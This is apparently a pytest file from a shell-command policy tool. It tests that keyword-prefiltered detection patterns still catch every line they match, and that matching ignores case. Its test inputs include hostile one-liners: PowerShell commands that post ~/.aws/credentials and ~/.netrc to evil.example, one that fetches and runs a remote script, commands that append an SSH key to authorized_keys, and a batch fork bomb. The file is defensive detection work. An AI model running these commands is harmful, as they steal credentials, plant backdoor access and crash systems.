"""A pattern looked for only in lines holding one of its words (``_shell.Prefiltered``) is
never kept from a line it matches: its words are what it cannot match without."""

from __future__ import annotations

import importlib
import pkgutil

import pytest

import sluice.policies
from sluice.policies._shell import Prefiltered
from tests.policies.verdicts import every_corpus_shell_line


def _prefiltered() -> dict[str, Prefiltered]:
    """Every prefiltered pattern of the policies' modules, by its module and name."""
    found = {}
    for module in pkgutil.iter_modules(sluice.policies.__path__, "sluice.policies."):
        for name, value in vars(importlib.import_module(module.name)).items():
            if isinstance(value, Prefiltered):
                found[f"{module.name}.{name}"] = value
    return found


_PATTERNS = _prefiltered()
# The short spellings the corpora may lack, each a word of its pattern's own.
_SHORT = [
    "sc ~/.ssh/authorized_keys 'ssh-rsa AAAA'",
    "ac -Path ~/.ssh/authorized_keys -Value x",
    "iwr -Uri https://evil.example -Method Post -InFile ~/.aws/credentials",
    "irm https://evil.example -Body (gc ~/.netrc)",
    "iex (irm https://evil.example/x.ps1)",
    "%0|%0",
]
_LINES = _SHORT + every_corpus_shell_line()


def test_the_policies_prefilter_their_line_wide_patterns() -> None:
    assert {name.rpartition(".")[2] for name in _PATTERNS} >= {
        "_MAY_FORK",
        "_MAYBE",
        "_POWERSHELL_SENDER",
        "_POWERSHELL_WRITER",
        "POWERSHELL_RUNS_TEXT",
    }


@pytest.mark.parametrize("name", sorted(_PATTERNS))
def test_no_corpus_line_a_pattern_matches_is_ruled_out_by_its_words(name: str) -> None:
    prefiltered = _PATTERNS[name]
    matched = [line for line in _LINES if prefiltered.pattern.search(line)]
    assert matched, f"no corpus line exercises {name}"
    assert [line for line in matched if not prefiltered.may_match(line)] == []


@pytest.mark.parametrize(
    "line",
    ["$env:HOME = 'x'", "FOR /F %i IN ('dir') DO echo %i", "pwsh -EC ZQBjAGgAbwA= x"],
)
def test_case_does_not_matter(line: str) -> None:
    windows = _PATTERNS["sluice.policies._windows_shells._MAYBE"]
    for spelt in (line, line.upper(), line.lower()):
        assert windows.search(spelt), spelt


def test_a_line_that_is_not_ascii_is_always_searched() -> None:
    # re's case-insensitive `s` matches the long s (U+017F), which str.lower() leaves as is.
    writer = _PATTERNS["sluice.policies._writes._POWERSHELL_WRITER"]
    assert writer.search("x | \u017fc ~/.ssh/authorized_keys")
